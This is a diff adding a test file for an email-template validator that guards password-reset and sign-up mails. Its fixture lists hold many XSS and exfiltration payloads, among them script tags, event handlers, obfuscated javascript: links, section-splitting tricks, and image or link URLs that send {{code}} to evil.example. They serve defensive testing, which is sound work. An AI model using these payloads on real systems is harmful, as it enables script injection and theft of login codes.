@@ -1,0 +1,162 @@
+import { describe, expect, test } from 'vitest';
+import { builtInTexts } from '../../../src/domain/mail/built-in.js';
+import { htmlOfText } from '../../../src/domain/mail/html-of-text.js';
+import { mailNames, mailSpec, variablesOf } from '../../../src/domain/mail/mails.js';
+import { renderSample } from '../../../src/domain/mail/sample.js';
+import { templateLimits, templateProblems } from '../../../src/domain/mail/template-problems.js';
+
+const problems = (part: 'subject' | 'text' | 'html', template: string, name: (typeof mailNames)[number] = 'password_reset_code') =>
+  templateProblems(name, { [part]: template }).map(({ code, detail, attribute }) => [attribute, code, detail].join(': '));
+
+describe.each(mailNames)('the built-in words of %s', (name) => {
+  test('are what a template may be, and so is the HTML that follows from them', () => {
+    const html = htmlOfText(builtInTexts[name].text, variablesOf(name));
+    expect(templateProblems(name, { ...builtInTexts[name], html })).toEqual([]);
+    expect(builtInTexts[name].text.length + html.length).toBeLessThan(templateLimits.text);
+  });
+
+  test('name something without which the mail is of no use, and every variable has a sample', () => {
+    const { needed } = mailSpec(name);
+    expect(needed.length).toBeGreaterThan(0);
+    expect(Object.keys(variablesOf(name))).toEqual(expect.arrayContaining([...needed]));
+    const environment = { name: 'Acme', branding: {}, kind: 'production' as const, support_email: 'help@acme.example' };
+    const sample = renderSample(environment, name, builtInTexts[name], null);
+    expect(`${sample.subject}${sample.text}${sample.html}`).not.toMatch(/\{\{|undefined|null/);
+  });
+});
+
+test.each([
+  ['{{cod}} {{code}}', 'unknown_variable', 'did you mean {{code}}?'],
+  ['{{code}} {{constructor}} {{__proto__}}', 'unknown_variable', '{{constructor}}'],
+  ['{{code}} {{environment_name.length}}', 'unknown_variable', 'environment_name.length'],
+  ['{{code}} {{#toString}}x{{/toString}}', 'unknown_variable', 'toString'],
+  ['{{{code}}}', 'invalid_template', 'Write {{name}}'],
+  ['{{&code}}', 'invalid_template', 'Write {{name}}'],
+  ['{{code}}{{>account}}', 'invalid_template', 'partials'],
+  ['{{=<% %>=}}<% code %>', 'invalid_template', 'delimiters'],
+  ['{{code}}{{! hidden }}', 'invalid_template', 'comments'],
+  ['{{code', 'invalid_template', 'can not be read'],
+  ['{{code}}{{#administrator}}', 'invalid_template', 'can not be read'],
+  ['{{code}}{{/administrator}}', 'invalid_template', 'can not be read'],
+  ['{{code}}{{administrator}}', 'invalid_template', 'yes or no'],
+  ['{{#code}}{{code}}{{/code}}', 'invalid_template', 'always there'],
+  ['{{code}}{{#device}}{{#device}}x{{/device}}{{/device}}', 'invalid_template', 'inside of itself'],
+  ['{{code}}{{.}}', 'invalid_template', 'outside of a list'],
+  ['{{code}}{{#device}}{{.}}{{/device}}', 'invalid_template', 'outside of a list'],
+  [`{{code}}${'{{time}}'.repeat(500)}`, 'invalid_template', 'more than 500'],
+  ['Type it in.', 'variable_required', '{{code}} or {{reset_url}}'],
+  ['{{#administrator}}{{code}}{{/administrator}}', 'variable_required', 'outside of all sections'],
+])('the text %j is refused as %s (attack 38.775)', (template, code, detail) => {
+  const [first, ...more] = problems('text', template);
+  expect(more).toEqual([]);
+  expect(first).toContain(`text: ${code}: `);
+  expect(first).toContain(detail);
+});
+
+test('lists are refused as text, sections of them in themselves', () => {
+  const text = (template: string) => problems('text', `{{reset_url}}${template}`, 'password_reset_done');
+  expect(text('{{#accounts}}{{.}}{{/accounts}}{{^accounts}}none{{/accounts}}')).toEqual([]);
+  expect(text('{{accounts}}')[0]).toContain('it is a list');
+  expect(text('{{#accounts}}{{#accounts}}{{.}}{{/accounts}}{{/accounts}}')[0]).toContain('inside of itself');
+});
+
+test.each(['{{code}}', '{{reset_url}}', 'Your code {{#administrator}}{{code}}{{/administrator}}'])(
+  'the subject %j is refused: locked screens show it and relays log it (attack 38.775)',
+  (subject) => expect(problems('subject', subject)[0]).toContain('subjects are shown on locked screens'),
+);
+
+const refused: [html: string, detail: string][] = [
+  ['<script>alert(1)</script>', '<script>'],
+  ['<ScRiPt src="https://evil.example/x.js"></ScRiPt>', '<script>'],
+  ['<p onclick="alert(1)">x</p>', 'onclick'],
+  ['<img src="https://a.example/x.png" onerror="alert(1)">', 'onerror'],
+  ['<form action="https://evil.example/"><input name="code"></form>', '<form>'],
+  ['<iframe src="https://evil.example/"></iframe>', '<iframe>'],
+  ['<svg><a href="https://evil.example/">x</a></svg>', '<svg>'],
+  ['<base href="https://evil.example/">', '<base>'],
+  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'http-equiv'],
+  ['<link rel="stylesheet" href="https://evil.example/x.css">', '<link>'],
+  ['<a href="javascript:alert(1)">x</a>', 'href="javascript:'],
+  ['<a href=" java\nscript:alert(1)">x</a>', 'it must be an absolute address'],
+  ['<a href="&#106;avascript:alert(1)">x</a>', 'href="javascript:'],
+  ['<a href="data:text/html,x">x</a>', 'https: or mailto: or tel:'],
+  ['<a href="/login">x</a>', 'absolute'],
+  ['<img src="http://a.example/x.png">', 'https:'],
+  ['<img src="https://evil.example/?c={{code}}">', 'variables in src'],
+  ['<a href="https://evil.example/?c={{code}}">x</a>', 'one variable that is an address'],
+  ['<a href="{{code}}">x</a>', 'one variable that is an address'],
+  ['<a href="{{reset_url}}&next=https://evil.example">x</a>', 'one variable that is an address'],
+  ['<a href="mailto:{{device}}">x</a>', 'one variable that is an address'],
+  ['<a href={{reset_url}}>x</a>', 'without quotes'],
+  ['<p title={{environment_name}}>x</p>', 'without quotes'],
+  ['<p style="color:{{environment_name}}">x</p>', 'variables in style'],
+  ['<p class="{{#administrator}}a{{/administrator}}">x</p>', 'variables in class'],
+  ['<p {{environment_name}}>x</p>', 'the attribute {{environment_name}}'],
+  ['<{{environment_name}}>x</p>', 'not well-formed'],
+  ['<p>a < b</p>', '&lt;'],
+  ['<style>p { color: {{environment_name}} }</style>', 'variables in <style>'],
+  ['<style>p { color: red }', '<style> without its end'],
+  ['<!-- {{environment_name}} -->', 'comment'],
+  ['<!doctype {{environment_name}}><p>x</p>', 'doctype'],
+  ['<p title="{{#administrator}}">x{{/administrator}}" onclick="alert(1)">', 'variables in title'],
+];
+
+test.each(refused)('the HTML %j is refused: it has %s (attack 38.776)', (html, detail) => {
+  const [first] = problems('html', `<p>{{code}}</p>\n${html}`);
+  expect(first).toMatch(/^html: markup_not_allowed: line \d/);
+  expect(first).toContain(detail);
+});
+
+test.each([
+  // What is text with its sections and something else without them.
+  '<p title="{{#administrator}}">text{{/administrator}}" onclick="alert(1)">',
+  '<{{#administrator}}{{/administrator}}script>alert(1)</script>',
+  '<s{{#administrator}}{{/administrator}}cript>alert(1)</s{{#administrator}}{{/administrator}}cript>',
+  '</{{#administrator}}x{{/administrator}}p>',
+  '<!-{{#administrator}}{{/administrator}}- x -->',
+  '<!--{{#administrator}}-->{{/administrator}}<script>alert(1)</script>-->',
+  '<table>{{#administrator}}</table>{{/administrator}}<td onclick="alert(1)">',
+  '{{#administrator}}<title>{{/administrator}}<script>alert(1)</script></title>',
+  '<title>{{#administrator}}</title><p title="{{/administrator}}</title><script>alert(1)</script>">',
+  '{{#administrator}}<style>{{/administrator}}<script>alert(1)</script></style>',
+  "<p title='{{#administrator}}'> \" onclick=alert(1) x=\"'{{/administrator}}'>",
+  '<a href="https://a.example/{{#administrator}}"></a><a href="javascript:{{/administrator}}alert(1)">',
+  '&lt{{#administrator}};{{/administrator}}script><script>',
+])('HTML that is read otherwise when a section is left out is refused: %j (attack 38.776)', (html) => {
+  expect(problems('html', `<p>{{code}}</p>${html}`)[0]).toContain('markup_not_allowed');
+});
+
+test('the HTML of mails is taken', () => {
+  const html = `<!doctype html>
+<html lang="de"><head><meta charset="utf-8"><title>{{environment_name}}</title><style>p { margin: 0 } a > b { color: red }</style></head>
+<body bgcolor="#fff"><!-- [if mso]>Outlook<![endif] --><table role="presentation" width="100%"><tr><td align="center" style="padding:8px">
+<img src="https://cdn.acme.example/logo.png" alt="Logo of {{environment_name}}" width="120">
+<p>Ihr Code &amp; mehr:<br/><b>{{code}}</b></p><p><a class="button" href="{{ reset_url }}" target="_blank" rel="noopener">Weiter</a></p>
+{{#administrator}}<p>Ein Administrator hat das gewünscht.</p>{{/administrator}}{{^administrator}}<p>{{time}}{{#device}}, {{device}}{{/device}}</p>{{/administrator}}
+{{#support_email}}<p><a href="mailto:{{support_email}}">{{support_email}}</a> or <a href="tel:+49301234">call</a></p>{{/support_email}}
+</td></tr></table></body></html>`;
+  expect(problems('html', html)).toEqual([]);
+  expect(problems('html', html.replaceAll('\n', '\r\n'))).toEqual([]);
+});
+
+test('values are escaped in HTML, and links of text become links', () => {
+  const environment = { name: '<b>"A" & \'B\'</b>', branding: {}, kind: 'production' as const, support_email: null };
+  const template = {
+    subject: '{{environment_name}}',
+    text: 'a < b\n{{reset_url}}\n\nhttps://acme.example/?a=1&b=2\n\n{{code}}',
+    html: null,
+  };
+  const { html, text } = renderSample(environment, 'password_reset_code', template, 'ar');
+  expect(html).toContain('<html lang="ar" dir="rtl">');
+  expect(html).toContain('<p>a &lt; b<br>\n<a href="https://id.example/password/reset?code=sample&amp;reset_id=1">');
+  expect(html).toContain('<a href="https://acme.example/?a=1&amp;b=2">');
+  expect(html).toContain('&lt;b&gt;&#34;A&#34; &amp; &#39;B&#39;&lt;/b&gt;');
+  expect(html).not.toContain('<b>');
+  expect(text).toContain('<b>"A"');
+});
+
+test('times and lifetimes are words of the template’s language', () => {
+  const environment = { name: 'Acme', branding: {}, kind: 'production' as const, support_email: null };
+  const { text } = renderSample(environment, 'register_code', { subject: 'x', text: '{{code}} {{expires_in}} {{time}}', html: null }, 'de');
+  expect(text).toContain('104285 10 Minuten 21. November 2026 um 09:05 UTC');
+});
